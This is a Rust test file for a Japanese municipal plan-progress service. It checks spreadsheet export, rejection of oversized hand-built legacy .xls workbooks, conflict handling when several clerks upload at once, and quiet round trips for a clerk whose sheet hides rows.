/// The workbook a clerk gets: drop-down lists with the Japanese labels, the sheet protected
/// with only the white cells open, a Japanese font, the version column hidden, the legend in
/// Japanese only.
#[test]
fn the_workbook_guides_a_clerk() {
    use std::io::Read;
    let app = TestApp::spawn();
    let plan = open_plan(&app);
    let bytes = export_bytes(&app, &plan, "fiscal_year=2023&format=xlsx");
    let mut zip = ::zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut part = |name: &str| {
        let mut text = String::new();
        zip.by_name(name).unwrap().read_to_string(&mut text).unwrap();
        text
    };
    let sheet = part("xl/worksheets/sheet1.xml");
    for list in ["順調に進んだ,概ね進んだ,一部遅れがある,未実施", "実施,拡充,検討,検証,新規,継続", "A,B,C,D"]
    {
        assert!(sheet.contains(&format!("<formula1>\"{list}\"</formula1>")), "no drop-down {list}");
    }
    assert!(sheet.contains("<sheetProtection"), "protected");
    assert!(sheet.contains("hidden=\"1\""), "the version column is hidden");
    assert!(part("xl/styles.xml").contains("游ゴシック"));
    let legend = part("xl/worksheets/sheet2.xml") + &part("xl/sharedStrings.xml");
    for code in ["on_track", "draft", "not_started", "published"] {
        assert!(!legend.contains(code), "the legend speaks Japanese only: {code}");
    }
    assert!(legend.contains("年度計画どおりに進んだ"));
}

/// A legacy workbook as LibreOffice saves one (the regional plan's FY2022 sheet, exported by
/// this service and saved as .xls) reads back as a no-op; a crafted one whose one value sits at
/// the last cell of a BIFF8 sheet, or whose dimensions claim the whole sheet, is a 413.
#[test]
fn legacy_xls_workbooks_are_read_within_bounds() {
    use std::io::Write;
    let app = TestApp::spawn();
    let plan = plan_of(&app, "regional-welfare-plan");
    let before = app.row_counts();
    let saved =
        std::fs::read(format!("{}/tests/api/files/regional-plan-r4-libreoffice.xls", env!("CARGO_MANIFEST_DIR")))
            .unwrap();
    let r =
        upload(&app, &app.token, &plan, "fiscal_year=2022&dry_run=true", "application/vnd.ms-excel", &saved).ok(200);
    assert_eq!(
        (r["created"].as_u64(), r["updated"].as_u64(), r["file_format"].as_str()),
        (Some(0), Some(0), Some("xls")),
        "{r}"
    );
    assert!(r["rows"].as_u64().unwrap() > 50, "{r}");
    assert_eq!(r["changes"], json!([]), "{r}");
    assert_eq!(app.row_counts(), before);

    // A BIFF8 workbook by hand: globals (BOF, one BoundSheet8, EOF), then the sheet.
    let record =
        |typ: u16, data: &[u8]| [&typ.to_le_bytes()[..], &(data.len() as u16).to_le_bytes()[..], data].concat();
    let bof =
        |kind: u16| record(0x0809, &[&0x0600u16.to_le_bytes()[..], &kind.to_le_bytes()[..], &[0u8; 12][..]].concat());
    let workbook = |sheet: Vec<u8>| {
        let globals_without_sheet_position = |position: u32| {
            [
                bof(0x0005),
                record(0x0085, &[&position.to_le_bytes()[..], &[0, 0, 6, 0][..], b"Sheet1"].concat()),
                record(0x000A, &[]),
            ]
            .concat()
        };
        let position = globals_without_sheet_position(0).len() as u32;
        let stream = [globals_without_sheet_position(position), sheet].concat();
        let mut file = cfb::CompoundFile::create(std::io::Cursor::new(Vec::new())).unwrap();
        file.create_stream("/Workbook").unwrap().write_all(&stream).unwrap();
        file.flush().unwrap();
        file.into_inner().into_inner()
    };
    let number = |row: u16, column: u16| {
        record(0x0203, &[&row.to_le_bytes()[..], &column.to_le_bytes()[..], &[0, 0], &1f64.to_le_bytes()[..]].concat())
    };
    let dimensions = |rows: u32, columns: u16| {
        record(
            0x0200,
            &[
                &0u32.to_le_bytes()[..],
                &rows.to_le_bytes()[..],
                &0u16.to_le_bytes()[..],
                &columns.to_le_bytes()[..],
                &[0, 0][..],
            ]
            .concat(),
        )
    };
    for (what, sheet) in [
        ("a value at the last cell", [bof(0x0010), number(0, 0), number(65_535, 255), record(0x000A, &[])].concat()),
        (
            "dimensions of the whole sheet",
            [bof(0x0010), dimensions(65_536, 256), number(0, 0), record(0x000A, &[])].concat(),
        ),
        (
            "dimensions beyond BIFF8",
            [bof(0x0010), dimensions(4_000_000_000, 256), number(0, 0), record(0x000A, &[])].concat(),
        ),
    ] {
        let r = upload(
            &app,
            &app.token,
            &plan,
            "fiscal_year=2022&dry_run=true",
            "application/vnd.ms-excel",
            &workbook(sheet),
        );
        assert_eq!(r.status, 413, "{what}: {}", r.body);
        app.get("/healthz").ok(200);
    }
    // The same workbook within bounds is read (and is no progress sheet).
    let small = workbook([bof(0x0010), dimensions(2, 1), number(0, 0), number(1, 0), record(0x000A, &[])].concat());
    upload(&app, &app.token, &plan, "fiscal_year=2022", "application/vnd.ms-excel", &small).problem_at(422, "/body");
    // Not a compound file past its signature.
    let mut broken = small.clone();
    broken.truncate(600);
    upload(&app, &app.token, &plan, "fiscal_year=2022", "application/vnd.ms-excel", &broken).problem_at(422, "/body");
}

/// Eight clerks upload at once, each from the same download, each with their own text in the
/// same cell: the merge is decided under the plan's lock, so exactly one wins and every other
/// upload is an edit conflict naming the winner's text; none is lost silently.
#[test]
fn concurrent_uploads_of_one_cell_end_in_one_winner_and_conflicts() {
    let app = TestApp::spawn();
    let plan = open_plan(&app);
    let downloaded = csv_of(&app, &plan, 2023);
    let (forty, result) = (row_of(&downloaded, "40"), column(&downloaded, "実績"));
    let answers = app.concurrently(8, |app, i| {
        let mut rows = downloaded.clone();
        rows[forty][result] = format!("clerk {i}");
        upload(app, &app.token, &plan, "fiscal_year=2023", "text/csv", write_csv(&rows).as_bytes())
    });
    let winners: Vec<usize> = (0..8).filter(|i| answers[*i].status == 200).collect();
    assert_eq!(winners.len(), 1, "{:?}", answers.iter().map(|a| a.status).collect::<Vec<_>>());
    let stored = report(&app, "40", 2023)["result_text"].as_str().unwrap().to_string();
    assert_eq!(stored, format!("clerk {}", winners[0]));
    for (i, answer) in answers.iter().enumerate().filter(|(i, _)| *i != winners[0]) {
        if answer.status == 503 {
            continue; // contention the client retries (SQLite busy), nothing written
        }
        let p = answer.problem(409);
        assert_eq!(p["errors"][0]["current_value"], stored.as_str(), "clerk {i}: {p}");
        assert_eq!(p["errors"][0]["your_value"], format!("clerk {i}"));
    }
    let history = app.get(&format!("/api/v1/initiatives/{}/years/2023/revisions", initiative_id(&app, "40"))).ok(200);
    assert_eq!(history["items"].as_array().unwrap().len(), 1, "one write: {history}");
}

/// A department clerk's sheet hides other departments' drafts; uploaded back unchanged it
/// changes nothing and warns of nothing (the hidden rows showed no report, and say so in 版).
#[test]
fn a_clerks_round_trip_with_hidden_rows_is_quiet() {
    let app = TestApp::spawn();
    let plan = open_plan(&app);
    // Another department's draft (initiative 4, 社会福祉協議会) that the clerk may not see.
    let body = json!({"fiscal_year": 2023, "items": [{"initiative_code": "4", "result_text": "協議会の下書き"}]});
    app.post(&format!("/api/v1/plans/{plan}/progress-batches"), &body).ok(200);
    let departments = app.get("/api/v1/departments?limit=500").ok(200);
    let fukushi = departments["items"].as_array().unwrap().iter().find(|d| d["name"] == "社会福祉課").unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let clerk = app.create_user("fukushi-clerk", Role::Department, &[&fukushi]);
    let text = export(&app, &clerk.token, &plan, "fiscal_year=2023&format=csv").body;
    let rows = csv_rows(text.strip_prefix('\u{feff}').unwrap());
    let four = row_of(&rows, "4");
    assert_eq!(rows[four][column(&rows, "実績")], "", "the draft is not shown");
    let r = upload(&app, &clerk.token, &plan, "fiscal_year=2023", "text/csv", text.as_bytes()).ok(200);
    assert_eq!((r["created"].as_u64(), r["updated"].as_u64()), (Some(0), Some(0)), "{r}");
    assert_eq!(r["warnings"], json!([]), "{r}");
    assert_eq!(r["unversioned_rows"], 0);
}
